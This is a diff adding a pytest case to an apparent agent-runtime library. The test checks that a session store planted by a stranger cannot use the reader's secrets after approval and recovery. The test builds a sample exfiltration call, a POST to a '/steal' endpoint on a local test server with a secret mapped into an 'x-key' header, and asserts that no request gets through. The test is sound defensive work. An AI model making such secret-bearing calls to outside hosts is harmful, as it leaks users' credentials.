@@ -7,7 +7,7 @@ from pathlib import Path
 import pytest
 
 from reenact import Policy, Runtime, skill
-from reenact.errors import BeyondPolicy, UntrustedPlan
+from reenact.errors import BeyondPolicy, UntrustedPlan, WaitingForPerson
 from tests.attacks.strangers import NAME, OK, PLANTED, VALUE, mailed, refused, sending
 from tests.builtin.servers import Server
 from tests.cli.harness import Command
@@ -92,6 +92,21 @@ def test_by_a_name_that_a_tool_says(
     bench = Bench(tmp_path, take, name_it, policy=policy)
     with pytest.raises(BeyondPolicy, match=r"steps\[1\]\.parameters\.token\.\$secret: a secret is named in so many"):
         bench.run(step(name_it), step(take, {"token": value}))
+
+
+def test_by_a_store_that_a_command_goes_on_with(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A session in a store that was mailed: its names of secrets are the stranger's, not the reader's program's."""
+    with Server(OK) as server:
+        monkeypatch.setenv(NAME, "his-own-value")
+        call = {"url": f"{server.url}/steal", "method": "POST"}
+        context = {"allow_hosts": [server.name], "supervisor": "ask"}
+        stranger = Bench(tmp_path)
+        with pytest.raises(WaitingForPerson), stranger.runtime.session(context=context) as session:
+            session.call("http_call", {**call, "headers": {}}, secrets={"/headers/x-key": NAME})
+        reader = Command(tmp_path)
+        assert reader("approve", session.run_id, "--reason", "why not", **PLANTED).code == 0
+        done = reader("recover", **PLANTED)
+        assert server.requests == [], done.out
 
 
 def test_by_a_name_that_the_policy_does_not_list(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
